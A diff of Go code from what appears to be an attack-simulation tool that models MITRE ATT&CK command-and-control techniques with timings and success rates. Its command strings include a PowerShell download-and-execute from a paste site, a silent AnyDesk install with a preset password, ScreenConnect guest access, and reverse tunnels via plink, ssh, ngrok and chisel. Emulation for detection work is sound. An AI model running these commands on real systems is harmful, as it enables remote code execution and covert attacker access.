@@ -39,8 +39,8 @@ var commandAndControl = []*Technique{
 		ID: "T1090.003", Name: "Proxy: Multi-hop Proxy", Tactic: "command-and-control", Effect: "the way out leads over Tor",
 		Takes: sim.LogNormal(2*time.Minute, 0.7), Success: 0.95,
 		script: &script{at: onWindows, variants: []variant{
-			by("tor", cmd(world.Dropped(`C:\Users\Public\tor\tor.exe`, &plain), `C:\Users\Public\tor\tor.exe --defaults-torrc torrc`), query("kl3f7vq2xsd6sadf.onion", "A", ""), connect("", 443, "ssl", 9e3, 60e3)),
-			by("tor2web", query("kl3f7vq2xsd6sadf.onion.to", "A", "198.51.100.9"), connect("kl3f7vq2xsd6sadf.onion.to", 443, "ssl", 3e3, 20e3)),
+			by("tor", cmd(world.Dropped(`C:\Users\Public\tor\tor.exe`, &plain), `C:\Users\Public\tor\tor.exe --defaults-torrc torrc`), query("kl3f7vq2xsd6sadf.onion", ""), connect("", 443, "ssl", 9e3, 60e3)),
+			by("tor2web", query("kl3f7vq2xsd6sadf.onion.to", "198.51.100.9"), connect("kl3f7vq2xsd6sadf.onion.to", 443, "ssl", 3e3, 20e3)),
 		}},
 	},
 	{
@@ -55,16 +55,16 @@ var commandAndControl = []*Technique{
 		ID: "T1102", Name: "Web Service", Tactic: "command-and-control", Effect: "orders are read from a public service",
 		Takes: sim.LogNormal(time.Minute, 0.7), Success: 0.98,
 		script: &script{at: onWindows, variants: []variant{
-			by("paste site", powershell(`IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/7HjK2bQ4')`), query("pastebin.com", "A", "198.51.100.77"), connect("pastebin.com", 443, "ssl", 1e3, 5e3)),
-			by("chat service", query("api.telegram.org", "A", "198.51.100.77"), connect("api.telegram.org", 443, "ssl", 2e3, 5e3)),
+			by("paste site", powershell(`IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/7HjK2bQ4')`), query("pastebin.com", "198.51.100.77"), connect("pastebin.com", 443, "ssl", 1e3, 5e3)),
+			by("chat service", query("api.telegram.org", "198.51.100.77"), connect("api.telegram.org", 443, "ssl", 2e3, 5e3)),
 		}},
 	},
 	{
 		ID: "T1219", Name: "Remote Access Tools", Tactic: "command-and-control", Effect: "a product for remote help lets the attacker in",
 		Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.93,
 		script: &script{at: onWindows, variants: []variant{
-			by("anydesk silent", cmd(anyDesk, `C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent`), cmd(world.Cmd, `cmd.exe /c echo P4ssw0rd | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password`), query("boot.net.anydesk.com", "A", "198.51.100.77"), connect("boot.net.anydesk.com", 443, "ssl", 30e3, 90e3)),
-			by("screenconnect", cmd(world.Signed(`C:\Users\Public\ScreenConnect.ClientService.exe`, "ConnectWise, LLC"), `"C:\Users\Public\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h={c2}&p=443&s=a1b2&k=BgIAAACkAABSU0Ex&c=corp"`), query("instance-a1b2.screenconnect.com", "A", "198.51.100.77"), connect("", 443, "ssl", 30e3, 90e3)),
+			by("anydesk silent", cmd(anyDesk, `C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent`), cmd(world.Cmd, `cmd.exe /c echo P4ssw0rd | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password`), query("boot.net.anydesk.com", "198.51.100.77"), connect("boot.net.anydesk.com", 443, "ssl", 30e3, 90e3)),
+			by("screenconnect", cmd(world.Signed(`C:\Users\Public\ScreenConnect.ClientService.exe`, "ConnectWise, LLC"), `"C:\Users\Public\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h={c2}&p=443&s=a1b2&k=BgIAAACkAABSU0Ex&c=corp"`), query("instance-a1b2.screenconnect.com", "198.51.100.77"), connect("", 443, "ssl", 30e3, 90e3)),
 		}},
 	},
 	{
@@ -72,7 +72,7 @@ var commandAndControl = []*Technique{
 		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.94,
 		script: &script{at: anywhere, variants: []variant{
 			by("plink", either(cmd(plinkTool, `plink.exe -ssh -R 127.0.0.1:3389:127.0.0.1:3389 -pw x tunnel@{c2ip}`), sh(world.SSH, `ssh -R 2222:localhost:22 tunnel@{c2ip}`)), connect("", 443, "ssh", 30e3, 60e3)),
-			by("ngrok", either(cmd(world.Dropped(`C:\Users\Public\ngrok.exe`, &plain), `ngrok.exe tcp 3389`), sh(world.UnixProgram("/tmp/ngrok"), `/tmp/ngrok tcp 22`)), query("tunnel.us.ngrok.com", "A", "198.51.100.77"), connect("tunnel.us.ngrok.com", 443, "ssl", 20e3, 40e3)),
+			by("ngrok", either(cmd(world.Dropped(`C:\Users\Public\ngrok.exe`, &plain), `ngrok.exe tcp 3389`), sh(world.UnixProgram("/tmp/ngrok"), `/tmp/ngrok tcp 22`)), query("tunnel.us.ngrok.com", "198.51.100.77"), connect("tunnel.us.ngrok.com", 443, "ssl", 20e3, 40e3)),
 			by("chisel", either(cmd(world.Dropped(`C:\Users\Public\svc.exe`, &plain), `svc.exe client https://{c2} R:socks`), sh(world.UnixProgram("/tmp/.c"), `/tmp/.c client https://{c2} R:socks`)), connect("", 443, "ssl", 20e3, 40e3)),
 		}},
 	},
